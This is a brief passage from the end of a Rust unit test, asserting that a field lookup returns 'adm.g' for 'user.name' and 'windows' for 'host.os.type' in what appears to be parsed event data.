            assert_eq!(get(&a, "user.name"), "adm.g");
            assert_eq!(get(&a, "host.os.type"), "windows");
        }
    }
}
